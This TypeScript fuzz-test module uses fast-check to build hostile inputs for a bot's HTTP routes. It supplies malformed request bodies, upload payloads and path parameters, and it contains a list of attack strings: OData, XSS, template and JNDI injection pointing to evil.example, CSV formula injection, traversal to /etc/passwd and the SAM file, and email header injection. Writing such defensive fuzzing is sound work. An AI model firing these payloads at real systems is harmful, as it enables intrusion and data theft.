// Hostile and malformed input for the fuzz suite (issue 8 item 5): wrong types, huge strings, unicode tricks,
// OData and markdown injection, script in names, path traversal in file names, prototype pollution.
import fc from "fast-check";
import type { Route } from "../../../bot/src/adapters/http/router";
import { exampleOf, jsonSchemaOf, type Hints } from "./routes";

/** Strings attackers and accidents actually send. */
export const HOSTILE_STRINGS: readonly string[] = [
  // OData filter injection (Azure Tables): closing the quote and widening the filter.
  "' or 1 eq 1 or '",
  "x' or PartitionKey ne '",
  "') or (RowKey gt '",
  "$filter=PartitionKey eq 'subjects'",
  "%27%20or%20true%20or%20%27",
  // Markdown / Adaptive Card / HTML injection.
  "[Click here](javascript:alert(1))",
  "![x](https://evil.example/track.png)",
  "**bold** _it_ <at>everyone</at>",
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "\"><svg/onload=alert(1)>",
  "{{7*7}} ${7*7} #{7*7}",
  "${jndi:ldap://evil.example/a}",
  "=HYPERLINK(\"https://evil.example\",\"x\")",
  "=cmd|' /C calc'!A0",
  // Path traversal in file names and ids.
  "../../../../etc/passwd",
  "..\\..\\..\\windows\\win.ini",
  "..%2f..%2f..%2fetc%2fpasswd",
  "%2e%2e%2f%2e%2e%2f",
  "/absolute/path",
  "C:\\Windows\\System32\\config\\SAM",
  "evidence/../../letters/x",
  "file.pdf\u0000.exe",
  "CON", "NUL.txt", "aux",
  // Unicode tricks: right-to-left override, zero-width, homoglyphs, combining marks, lone surrogates, NUL.
  "invoice\u202Efdp.exe",
  "a\u200Bl\u200Be\u200Bx",
  "Аlex Ехample", // Cyrillic А, Е
  "Ａｌｅｘ　Ｅｘａｍｐｌｅ",
  "Z\u0351\u0352\u0357a\u035B\u0300l\u0301g\u0302o",
  "\uD800", "\uDFFF\uD800",
  "\u0000\u0001\u001F\u007F",
  "\uFEFF\uFFFE\uFFFF",
  "👩🏽‍💻👨‍👩‍👧‍👦🏴󠁧󠁢󠁷󠁬󠁳󠁿",
  "ǅž ß İ ı ﬁ",
  // Types in disguise and the empty.
  "", " ", "\t\n\r", "null", "undefined", "NaN", "true", "0", "-1", "1e309", "[]", "{}",
  "__proto__", "constructor", "prototype", "toString",
  // Email and phone edge cases.
  "a@b", "@example.org", "alex.example@example.org\r\nBcc: victim@example.org", "\"quoted@local\"@example.org",
  "+44 (0) 7700 900 001 ext. 9", "0".repeat(40),
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 64 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 64 }) },
  { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_STRINGS).chain((s) => fc.integer({ min: 2, max: 2000 }).map((n) => s.repeat(n).slice(0, 70_000))) },
  { weight: 1, arbitrary: fc.integer({ min: 300, max: 100_000 }).map((n) => "x".repeat(n)) },
);

/** Any JSON value, including the wrong type for wherever it lands. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.double(), fc.constant(-0), fc.constant(Number.MAX_SAFE_INTEGER + 2), fc.constant(1e308)) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.integer({ min: 101, max: 5000 }).map((n) => Array.from({ length: n }, (_, i) => `p${i}@example.org`)) },
  { weight: 1, arbitrary: fc.dictionary(hostileString, fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

type Json = null | boolean | number | string | Json[] | { [k: string]: Json };

/** Every path to a value in a JSON document. */
function paths(value: unknown, prefix: (string | number)[] = []): (string | number)[][] {
  const out: (string | number)[][] = [prefix];
  if (Array.isArray(value)) value.forEach((v, i) => out.push(...paths(v, [...prefix, i])));
  else if (value && typeof value === "object") for (const [k, v] of Object.entries(value)) out.push(...paths(v, [...prefix, k]));
  return out;
}

function setAt(doc: unknown, path: (string | number)[], value: unknown): unknown {
  if (path.length === 0) return value;
  const copy: Record<string | number, unknown> | unknown[] = Array.isArray(doc) ? [...(doc as unknown[])] : { ...(doc as Record<string, unknown>) };
  const [head, ...rest] = path;
  (copy as Record<string | number, unknown>)[head!] = setAt((copy as Record<string | number, unknown>)[head!], rest, value);
  return copy;
}

/** Replaces every string leaf (type-correct, content hostile). */
function hostileLeaves(doc: unknown, pick: () => string): unknown {
  if (typeof doc === "string") return pick();
  if (Array.isArray(doc)) return doc.map((d) => hostileLeaves(d, pick));
  if (doc && typeof doc === "object") return Object.fromEntries(Object.entries(doc).map(([k, v]) => [k, hostileLeaves(v, pick)]));
  return doc;
}

export interface FuzzBody {
  /** The bytes sent (a string, or raw bytes for uploads). */
  body: string | Buffer | undefined;
  contentType: string | undefined;
  /** Which strategy made it, for the failure report. */
  how: string;
}

const JSON_TYPES = ["application/json", "application/json; charset=utf-8", "APPLICATION/JSON"];
const WRONG_TYPES = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "application/json-patch+json", "", "application/json; charset=utf-16"];

/** Request bodies for a JSON route: mostly near-valid bodies with one hostile change, so the fuzz reaches the
 * handler and the service, not just the schema. */
export function jsonBodyArb(route: Route, h: Hints): fc.Arbitrary<FuzzBody> {
  const schema = jsonSchemaOf(route);
  const valid = schema ? exampleOf(schema, h) : {};
  const leafPaths = paths(valid);
  const asJson = (how: string) => (v: unknown): FuzzBody => ({ body: JSON.stringify(v), contentType: "application/json", how });
  return fc.oneof(
    { weight: 5, arbitrary: fc.tuple(fc.constantFrom(...leafPaths), hostileValue).map(([p, v]) => asJson(`field ${p.join(".") || "(body)"} replaced`)(setAt(valid, p, v))) },
    { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS).map((s) => asJson("every string hostile")(hostileLeaves(valid, () => s))) },
    { weight: 2, arbitrary: fc.tuple(fc.constantFrom("__proto__", "constructor", "prototype", "admin", "roles", "$where", "etag", "id"), hostileValue).map(([k, v]) => ({ body: JSON.stringify(valid).replace(/^\{/, `{${JSON.stringify(k)}:${JSON.stringify(v ?? null)},`).replace(/,\}$/, "}"), contentType: "application/json", how: `extra field ${k}` })) },
    { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((v) => asJson("random JSON")(v as Json)) },
    { weight: 1, arbitrary: fc.integer({ min: 1, max: 30 }).map((n) => ({ body: JSON.stringify(valid).slice(0, Math.max(1, JSON.stringify(valid).length - n)), contentType: "application/json", how: "truncated JSON" })) },
    { weight: 1, arbitrary: fc.integer({ min: 1_000, max: 200_000 }).map((n) => ({ body: "[".repeat(n) + "]".repeat(n), contentType: "application/json", how: `nested ${n} deep` })) },
    { weight: 1, arbitrary: fc.constantFrom("\uFEFF{}", "{\"a\":1,\"a\":2}", "NaN", "undefined", "{'single':'quotes'}", "\u0000", "{\"x\":\"\\ud800\"}").map((b) => ({ body: b, contentType: "application/json", how: "odd JSON text" })) },
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...WRONG_TYPES), fc.constant(JSON.stringify(valid))).map(([t, b]) => ({ body: b, contentType: t || undefined, how: `content type ${t || "(none)"}` })) },
    { weight: 1, arbitrary: fc.constantFrom(...JSON_TYPES).map((t) => ({ body: JSON.stringify({ ...(valid as object), padding: "x".repeat(80_000) }), contentType: t, how: "over the size limit" })) },
  );
}

const UPLOAD_TYPES = ["application/pdf", "image/png", "image/jpeg", "message/rfc822", "text/plain", "application/x-msdownload", "text/html", "image/svg+xml", "application/octet-stream", "", "application/pdf; name=\"../../x\""];

/** Upload bodies: random bytes under a random content type and a hostile file name. */
export function rawBodyArb(): fc.Arbitrary<FuzzBody & { fileName: string }> {
  return fc.record({
    bytes: fc.oneof(
      fc.uint8Array({ maxLength: 2048 }).map((a) => Buffer.from(a)),
      fc.constantFrom(Buffer.from("%PDF-1.7\n<script>alert(1)</script>"), Buffer.from("<svg onload=alert(1)>"), Buffer.from("MZ\x90\x00"), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])),
    ),
    contentType: fc.constantFrom(...UPLOAD_TYPES),
    fileName: hostileString,
  }).map(({ bytes, contentType, fileName }) => ({ body: bytes, contentType: contentType || undefined, fileName, how: `upload ${contentType || "(no type)"}` }));
}

/** Percent-encodes any string, lone surrogates included (encodeURIComponent throws on those): the UTF-8 bytes
 * Node would send, each escaped unless unreserved. */
export function pct(s: string): string {
  let out = "";
  for (const byte of Buffer.from(s, "utf8")) {
    const c = String.fromCharCode(byte);
    out += /[A-Za-z0-9_.~-]/.test(c) ? c : `%${byte.toString(16).toUpperCase().padStart(2, "0")}`;
  }
  return out;
}

/** A path parameter: usually a real id, sometimes hostile. */
export function paramArb(real: string): fc.Arbitrary<{ value: string; encoded: string }> {
  return fc.oneof(
    { weight: 2, arbitrary: fc.constant(real).map((v) => ({ value: v, encoded: pct(v) })) },
    { weight: 3, arbitrary: hostileString.filter((s) => s.length < 3000).map((v) => ({ value: v, encoded: pct(v) })) },
    // Sent as is, not escaped: the router must cope with raw traversal and broken %-escapes.
    { weight: 1, arbitrary: fc.constantFrom("..", "%", "%E0%A4%A", "%00", "..%2F..%2F", "%2e%2e", "%C0%AE%C0%AE", "%ED%A0%80", "%FF%FE", "a%2Fb", "~", "%ZZ").map((v) => ({ value: v, encoded: v })) },
  );
}
